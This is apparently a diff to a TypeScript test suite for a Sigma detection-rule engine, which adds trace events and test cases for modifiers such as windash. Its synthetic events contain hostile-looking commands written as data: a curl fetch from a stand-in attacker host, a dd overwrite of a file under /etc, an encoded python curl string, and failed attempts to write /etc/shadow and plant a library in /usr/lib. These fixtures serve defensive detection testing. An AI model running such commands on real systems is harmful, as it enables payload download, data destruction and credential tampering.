@@ -9,11 +9,11 @@ const exec = (ms: number, pid: number, ppid: number, filename: string, ...args: 
   eventAt(ms, { type: "process_exec", pid, ppid, uid: 0, comm: "x", filename, args, cwd: "/tmp/job" });
 const connect = (ms: number, pid: number, dst_addr: string, dst_port: number): object =>
   eventAt(ms, { type: "net_connect", pid, dst_addr, dst_port, protocol: "tcp" });
-const open = (ms: number, pid: number, path: string, flags: string): object =>
-  eventAt(ms, { type: "file_open", pid, path, flags });
+const open = (ms: number, pid: number, path: string, flags: string, more: object = {}): object =>
+  eventAt(ms, { type: "file_open", pid, path, flags, ...more });
 
 const lines = [
-  exec(1, 10, 1, "/usr/bin/bash", "bash", "-e", "step.sh"),
+  exec(1, 10, 1, "/usr/bin/bash", "bash", "-e", "/opt/step.sh"),
   exec(2, 11, 10, "/usr/bin/curl", "curl", "-s", "http://Evil.Example/x"),
   eventAt(3, { type: "process_fork", pid: 10, ppid: 1, child_pid: 12 }),
   exec(4, 13, 12, "/bin/dd", "dd", "if=/dev/zero", "of=/etc/it's"),
@@ -34,6 +34,14 @@ const lines = [
     "-c",
     `x='${Buffer.from("import os;curl http").toString("base64")}'`,
   ),
+  open(14, 11, "/etc/shadow", "O_WRONLY|O_CREAT", { failed: "EACCES" }),
+  eventAt(15, {
+    type: "file_rename",
+    pid: 11,
+    path: "/tmp/b",
+    new_path: "/usr/lib/refused.so",
+    failed: "EPERM",
+  }),
 ];
 const [bash, curl, , dd, privateConnect, publicConnect, linkLocal, mapped, lookup, cron, , renamed, python] =
   lines.map((_line, index) => index + 1);
@@ -87,6 +95,17 @@ describe("Sigma rules on a trace", () => {
     ["regular expression without case", "s:\n  CommandLine|re|i: 'evil'\ncondition: s", [curl]],
     ["cased", "s:\n  CommandLine|contains|cased: evil\ncondition: s", []],
     ["windash", "s:\n  CommandLine|contains|windash: ' /s '\ncondition: s", [curl]],
+    ["windash as it is written", "s:\n  CommandLine|startswith|windash: bash -e /opt\ncondition: s", [bash]],
+    ["windash, each by itself", "s:\n  CommandLine|windash: '*/e —opt/s???.sh'\ncondition: s", []],
+    ["windash, one of two", "s:\n  CommandLine|windash: '*/e /opt/s???.sh'\ncondition: s", [bash]],
+    ["windash, not inside a word", "s:\n  CommandLine|contains|windash: Example-x\ncondition: s", []],
+    [
+      "windash, other characters as themselves",
+      "s:\n  CommandLine|contains|windash: '/s .ttp'\ncondition: s",
+      [],
+    ],
+    ["windash, cased", "s:\n  CommandLine|contains|windash|cased: '/S http'\ncondition: s", []],
+    ["windash without a dash", "s:\n  CommandLine|contains|windash: EVIL\ncondition: s", [curl]],
     ["base64offset", "s:\n  CommandLine|base64offset|contains: curl http\ncondition: s", [python]],
     ["exists", "s:\n  ParentImage|exists: true\ncondition: s", [curl, dd, python]],
     ["null", "s:\n  ParentImage: null\ncondition: s", [bash]],
@@ -156,7 +175,7 @@ describe("Sigma rules on a trace", () => {
     expect(await linesFound(rule("network_connection", detection))).toEqual(expected);
   });
 
-  it("finds files that were created or moved into place, and none that were only read", async () => {
+  it("finds files that were created or moved into place, and none that were only read or that failed", async () => {
     const anyFile = rule("file_event", "s:\n  TargetFilename|startswith: /\ncondition: s");
     expect(await linesFound(anyFile)).toEqual([cron, renamed]);
     const byCurl = rule(
